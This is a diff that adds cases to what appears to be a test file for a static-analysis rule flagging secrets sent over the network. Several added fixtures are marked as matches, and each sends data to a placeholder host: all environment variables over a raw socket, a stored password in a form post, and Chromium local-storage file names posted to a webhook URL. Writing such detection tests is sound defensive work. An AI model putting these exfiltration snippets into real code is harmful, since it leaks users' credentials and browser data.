@@ -1,6 +1,7 @@
 import json
 import os
 import socket
+import urllib.parse
 import urllib.request
 import uuid
 
@@ -50,3 +51,50 @@ def readme(s):
 def kept(user):
     # ok: python-secret-leaves-by-network
     print(user.password)
+
+
+def pairs():
+    line = ";".join(["%s:%s" % (a, b) for (a, b) in os.environ.items()])
+    out = ""
+    for sign in line:
+        out += sign if sign.isalnum() else "%%%02X" % ord(sign)
+    k = socket.socket()
+    k.connect(("stats.example.net", 80))
+    # ruleid: python-secret-leaves-by-network
+    k.send(b"POST /i HTTP/1.0\r\n\r\n" + out.encode())
+
+
+class Link:
+    def __init__(self, host, password):
+        self.host = host
+        self.password = password
+
+    def note(self):
+        form = urllib.parse.urlencode({"h": self.host, "p": self.password}).encode()
+        # ruleid: python-secret-leaves-by-network
+        urllib.request.urlopen("http://log.example.org/n", form)
+
+
+def jars(home):
+    found = []
+    for name in os.listdir(os.path.join(home, "Chromium/User Data/Default/Local Storage/leveldb")):
+        found.append(name)
+    # ruleid: python-secret-leaves-by-network
+    requests.post("https://hooks.example.org/1", json={"content": "\n".join(found)})
+
+
+def counted(pipe):
+    # ok: python-secret-leaves-by-network
+    pipe.send(len(os.environ))
+
+
+def listing(folder):
+    # ok: python-secret-leaves-by-network
+    requests.post("https://example.net/list", json=os.listdir(folder))
+
+
+def greeting(peer):
+    k = socket.socket()
+    k.connect((peer, 25))
+    # ok: python-secret-leaves-by-network
+    k.send(b"EHLO localhost\r\n")
